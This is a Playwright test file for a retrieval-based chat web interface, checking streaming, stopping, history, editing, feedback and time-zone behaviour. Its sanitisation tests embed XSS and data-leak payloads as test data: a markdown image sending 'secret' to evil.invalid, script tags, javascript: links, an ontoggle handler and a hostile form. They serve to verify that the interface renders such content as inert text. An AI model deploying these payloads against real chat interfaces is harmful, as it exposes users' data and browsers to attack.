"""Asking in the chat, in a browser."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from rag.types import Turn
from tests import web
from tests.chat_page import EXAMPLES, LEAVE, Service, Visitor, serving, visiting
from tests.widget_page import ZONES, day_in


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    with serving(tmp_path_factory.mktemp("home")) as service:
        yield service


@pytest.fixture
def visitor(service: Service, browser: Browser) -> Iterator[Visitor]:
    with visiting(browser, service.address) as visitor:
        yield visitor


@pytest.fixture
def slow(service: Service) -> Iterator[Service]:
    service.pipeline.delay = 0.15
    yield service
    service.pipeline.delay = 0.0


def test_an_answer_streams_after_its_evidence(slow: Service, browser: Browser) -> None:
    with visiting(browser, slow.address) as visitor:
        visitor.submit(LEAVE)
        expect(visitor.answers.last).to_contain_text("Reading 4 passages from 1 document")
        expect(visitor.panel.get_by_role("heading", level=2)).to_have_text("Passages found")
        expect(visitor.panel.locator("q").first).to_have_text("Every employee gets 25 days of paid leave a year.")
        expect(visitor.answers.last).to_contain_text("Every employee gets")
        expect(visitor.citations).to_have_count(0)
        slow.pipeline.delay = 0.0
        visitor.settle()
        expect(visitor.citations.first).to_have_text("[1]")
        expect(visitor.panel.get_by_role("heading", level=2)).to_have_text("Sources")


def test_a_finished_answer_is_announced_once(slow: Service, browser: Browser) -> None:
    with visiting(browser, slow.address) as visitor:
        visitor.page.evaluate(
            """() => {
              window.heard = [];
              const status = document.querySelector('.visually-hidden[role=status]');
              new MutationObserver(() => window.heard.push(status.textContent)).observe(status, { childList: true });
            }"""
        )
        visitor.ask("soup?")
        visitor.page.wait_for_timeout(300)
        assert visitor.page.evaluate("window.heard") == ["Answer: It serves soup on Fridays. [1]"]


def test_stop_ends_the_answer_and_keeps_what_was_said(slow: Service, browser: Browser) -> None:
    with visiting(browser, slow.address) as visitor:
        visitor.submit(LEAVE)
        written = visitor.answers.last.locator("p").first  # the quotes that it is written from stand below it
        expect(written).to_contain_text("Every employee")
        visitor.button("Stop").click()
        expect(visitor.answers.last).to_contain_text("Stopped.")
        expect(visitor.button("Ask")).to_be_visible()
        visitor.until(lambda: slow.pipeline.running == 0)
        expect(written).to_contain_text("Every employee")
        slow.pipeline.delay = 0.0
        visitor.ask("When does the canteen open?")
        expect(visitor.questions).to_have_count(2)
        assert not slow.pipeline.history_of("When does the canteen open?")


def test_a_follow_up_knows_what_was_said_and_a_new_conversation_does_not(visitor: Visitor, service: Service) -> None:
    visitor.ask("When does the canteen open?")
    visitor.ask("soup?")
    assert service.pipeline.history_of("soup?")[0] == Turn("user", "When does the canteen open?")
    visitor.button("New conversation").click()
    expect(visitor.questions).to_have_count(0)
    expect(visitor.panel).to_be_hidden()
    visitor.ask("soup?")
    assert not service.pipeline.history_of("soup?")


def test_a_new_conversation_ends_the_answer_under_way_and_keeps_the_old_one(slow: Service, browser: Browser) -> None:
    with visiting(browser, slow.address) as visitor:
        visitor.ask("soup?")
        visitor.submit(LEAVE)
        expect(visitor.answers.last).to_contain_text("Every employee")
        visitor.button("New conversation").click()
        expect(visitor.questions).to_have_count(0)
        visitor.until(lambda: slow.pipeline.running == 0)
        visitor.page.wait_for_timeout(500)
        expect(visitor.questions).to_have_count(0)
        expect(visitor.button("Ask")).to_be_visible()
        slow.pipeline.delay = 0.0
        visitor.ask("When does the canteen open?")
        expect(visitor.questions).to_have_count(1)
        assert not slow.pipeline.history_of("When does the canteen open?")
        visitor.button("History").click()
        visitor.page.get_by_role("dialog", name="History").get_by_role("button", name="soup?", exact=True).click()
        expect(visitor.questions).to_have_text(["soup?", LEAVE])
        expect(visitor.answers.first).to_contain_text("It serves soup on Fridays.")
        expect(visitor.answers.last).to_contain_text("Stopped.")


def test_an_example_is_asked_when_chosen(visitor: Visitor) -> None:
    visitor.button(EXAMPLES[0]).click()
    expect(visitor.questions).to_have_text([EXAMPLES[0]])
    visitor.settle()
    expect(visitor.answers.last).to_contain_text("The canteen opens at noon.")


def test_an_answer_is_tried_again_in_its_place(visitor: Visitor, service: Service) -> None:
    visitor.ask("soup?")
    visitor.ask(LEAVE)
    before = len(service.pipeline.asked)
    visitor.actions.get_by_role("button", name="Try again").click()
    visitor.until(lambda: len(service.pipeline.asked) > before)
    visitor.settle()
    expect(visitor.box).to_be_focused()  # the button that was pressed is gone
    expect(visitor.button("Try again")).to_have_count(1)  # an earlier answer's would take later ones away
    expect(visitor.questions).to_have_text(["soup?", LEAVE])
    assert [turn.content for turn in service.pipeline.history_of(LEAVE)[:1]] == ["soup?"]


def test_a_question_is_edited_in_its_place(visitor: Visitor) -> None:
    visitor.ask(LEAVE)
    visitor.ask("soup?")
    visitor.page.get_by_role("button", name="Edit question").first.click()
    box = visitor.page.get_by_label("Your question, to be asked anew")
    expect(box).to_be_focused()
    expect(box).to_have_value(LEAVE)
    assert visitor.contrast(".edit .primary") >= 4.5
    expect(visitor.page.locator("form.edit")).to_contain_text("What was asked after this one will go.")
    box.press("Escape")
    expect(box).to_have_count(0)
    expect(visitor.page.get_by_role("button", name="Edit question").first).to_be_focused()
    visitor.page.keyboard.press("Enter")
    box.fill("When does the canteen open?")
    box.press("Enter")
    expect(visitor.questions).to_have_text(["When does the canteen open?"])
    visitor.settle()
    expect(visitor.box).to_be_focused()
    expect(visitor.answers).to_have_count(1)
    expect(visitor.answers.last).to_contain_text("The canteen opens at noon.")
    visitor.page.get_by_role("button", name="Edit question").click()
    expect(visitor.page.locator("form.edit")).not_to_contain_text("will go")


def test_a_judgement_is_written_down(visitor: Visitor, service: Service) -> None:
    visitor.ask("soup on Fridays?")
    control = visitor.actions.get_by_role("button", name="Wrong source")
    control.click()
    expect(control).to_have_attribute("aria-pressed", "true")
    log = service.home / "feedback.jsonl"
    visitor.until(log.exists)
    entry = json.loads(log.read_text(encoding="utf-8").splitlines()[-1])
    assert (entry["verdict"], entry["question"]) == ("wrong_source", "soup on Fridays?")


def test_a_failure_is_told_in_the_place_of_the_answer(visitor: Visitor) -> None:
    answer = visitor.ask("Does leave explode?")
    expect(answer).to_have_text("Something went wrong while answering. Please try again.")
    expect(visitor.ask("soup?")).to_contain_text("It serves soup")


def test_hostile_documents_are_inert(visitor: Visitor) -> None:
    answer = visitor.ask("zebra rule instructions click mail")
    expect(answer).to_contain_text("![leak](http://evil.invalid/leak.png?q=secret)")
    expect(answer).to_contain_text("<script>window.__xss=4</script>")
    expect(answer).to_contain_text(
        "[a click](javascript:window.__xss=6) at http://evil.invalid/shop or www.evil.invalid"
    )
    for number in range(visitor.citations.count()):
        citation = visitor.citations.nth(number)
        citation.hover()
        citation.click()
        expect(visitor.mark.first).to_be_visible()
        assert visitor.panel.locator(".text").text_content() == web.HOSTILE.text
        assert str(visitor.mark.first.text_content()) in web.HOSTILE.text
        expect(visitor.panel.get_by_role("heading", level=2)).to_contain_text(web.HOSTILE.title)
        visitor.page.keyboard.press("Escape")
    foreign = "img, script, iframe, form, object, embed, video, audio, h1, code, table, a:not([href^='#cite-'])"
    assert answer.locator(foreign).count() == 0
    assert visitor.panel.locator("img, script, a, iframe, form").count() == 0


@pytest.mark.parametrize(
    "text",
    [
        EXAMPLES[1],
        "# heading *a* _b_ `c` ~d~ > e | f | $g$ \\(h\\) :i: &lt; &#91; \\",
        "```mermaid graph TD; a-->b ``` <https://evil.invalid> a@b.example ftp://evil.invalid www.evil.invalid",
        "<details open ontoggle=window.__xss=1> [x]: http://evil.invalid <form action=//evil.invalid><style>*{top:0}",
    ],
)
def test_the_browser_shows_a_question_as_it_was_typed(visitor: Visitor, text: str) -> None:
    visitor.ask(text)
    expect(visitor.questions.last).to_have_text(text)
    assert visitor.questions.last.locator("p *").count() == 0


@pytest.mark.parametrize("zone", ZONES)
def test_a_question_is_asked_on_the_day_of_its_reader(service: Service, browser: Browser, zone: str) -> None:
    with visiting(browser, service.address, timezone_id=zone) as visitor:
        before = day_in(zone)
        visitor.ask("soup?")
        assert service.pipeline.days[-1] in (before, day_in(zone))
